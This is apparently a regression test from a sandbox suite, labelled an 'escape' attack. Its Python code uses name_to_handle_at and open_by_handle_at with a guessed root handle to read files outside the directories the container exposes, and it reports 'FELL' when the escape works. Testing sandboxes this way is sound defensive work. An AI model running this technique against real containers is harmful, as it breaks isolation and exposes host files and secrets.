# attack: files_by_their_handles
# kind: escape
# tries: opens the secret by a handle, which leads to a file past all folders on the way to it
# seen: the secret is in the report
# deserves: nothing
# extra: before 3.2a
# %%
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
handle, mount = (ctypes.c_uint32 * 34)(128), ctypes.c_int()
named = libc.name_to_handle_at(-100, rb"{secret}", handle, ctypes.byref(mount), 0)
if named == 0:
    raise RuntimeError(f"FELL: the handle {list(handle)[:6]}")
# numbers of files are small: the folder at the root of a file system is nearly always the second
guess = (ctypes.c_uint32 * 34)(8, 1, 2, 0)
for folder in (os.open(".", os.O_RDONLY), os.open("/", os.O_PATH)):
    opened = libc.open_by_handle_at(folder, guess, os.O_RDONLY)
    if opened >= 0:
        raise RuntimeError(f"FELL: {os.listdir(opened)}")
